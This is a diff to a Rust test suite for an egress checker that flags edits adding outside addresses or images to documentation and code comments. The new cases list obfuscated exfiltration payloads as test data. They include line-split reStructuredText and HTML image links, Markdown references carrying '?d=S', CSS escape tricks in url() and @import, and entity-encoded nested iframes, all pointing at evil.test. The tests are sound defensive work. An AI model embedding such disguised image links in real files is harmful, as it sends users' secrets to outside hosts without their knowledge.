@@ -5,7 +5,7 @@
 use std::path::{Path, PathBuf};
 use std::time::{Duration, Instant};
 
-use lifeos::egress::{brought, is_document};
+use lifeos::egress::{brought, is_document, shown};
 use lifeos::redact::Redactor;
 
 use crate::rig::{Ran, TestRepo, hostile};
@@ -74,11 +74,63 @@ fn case_70_no_edit_adds_a_secret_whoever_proposes_it() {
 
 #[test]
 fn case_67_no_text_stalls_the_look_at_its_addresses() {
-    for part in ["/", "\\", "&", "&#"] {
+    for part in ["/", "\\", "&", "&#", "a://b? ", "![a](a://b?c)", "https:", "https:a.b:", "\\2f ", "..\n /"] {
         let text = part.repeat((1 << 20) / part.len());
         let begun = Instant::now();
-        assert_eq!(brought("", &text, &[]), None);
+        drop(brought("", &text, &[]));
         assert!(begun.elapsed() < Duration::from_secs(10), "{part}: {:?}", begun.elapsed());
+    }
+}
+
+#[test]
+fn case_67_no_line_end_escape_or_layer_hides_an_address() {
+    let old = "# A\n\nSee https://known.org/b and x=\" there.\n";
+    for added in [
+        ".. image:: https://known.org\n   .evil.test/x.png",
+        ".. image:: https://known.org\n   evil.test/x.png",
+        ".. image:: https:/\n   /evil.test",
+        ".. image:: https://known.org/x\n   ?d=S",
+        ".. _a: https://known.org\n   .evil.test",
+        "[r]:  <https://known.org/x?d=S>\n\n![r]",
+        "[r]:\n<https://known.org/x?d=S>\n\n![r]",
+        "[r]:\t\t https://known.org/x?d=S\n\n![r]",
+        "<img src=\"https:/\n/evil.test/S.png\">",
+        "<img alt=\"<b\" src=\"https:/\n/evil.test/S.png\">",
+        ".. raw:: html\n\n   <img src=\"https:/\n   /evil.test/S.png\">",
+        "<p style=\"background: url(\\68ttps:\\2f\\2f evil.test/S)\">",
+        "<style>@import \"\\2f\\2f evil.test/S\"</style>",
+        "<style>@import url(htt\\\nps://evil.test/S)</style>",
+        "<iframe srcdoc=\"<img src=https:&amp;#47;&amp;#47;evil.test&amp;#47;S>\">",
+        "<iframe srcdoc='<iframe srcdoc=\"&amp;amp;#104;ttps://evil.test\">'>",
+    ] {
+        assert!(brought(old, &format!("{old}\n{added}\n"), &[]).is_some(), "{added}");
+    }
+}
+
+#[test]
+fn case_67_code_brings_in_no_image_in_its_documentation() {
+    for added in
+        ["//! ![x](https://evil.test/S)", "# <img src=https://evil.test/S>", " * .. image:: https://evil.test\n", "/// <img\n"]
+    {
+        let is_brought = added.contains("evil");
+        assert_eq!(shown("", added, &[]).is_some(), is_brought, "{added}");
+    }
+    assert_eq!(shown("", "let all = vec![\"https://evil.test\"]; // https://also.test", &[]), None);
+}
+
+#[test]
+fn case_67_an_edit_that_keeps_the_addresses_passes() {
+    let mut paths = Vec::new();
+    documents(Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../docs")), &mut paths);
+    documents(Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../tests/cases")), &mut paths);
+    assert!(paths.len() > 20, "{paths:?}");
+    for path in paths {
+        let Ok(text) = std::fs::read_to_string(&path) else { continue };
+        for (from, to) in
+            [(" the ", " this "), (" and ", " or "), ("\n\n", "\n\nMore.\n\n"), ("- ", "* "), ("a ", "a\n"), ("\n", "\n ")]
+        {
+            assert_eq!(brought(&text, &text.replace(from, to), &[]), None, "{}: {from:?}", path.display());
+        }
     }
 }
 
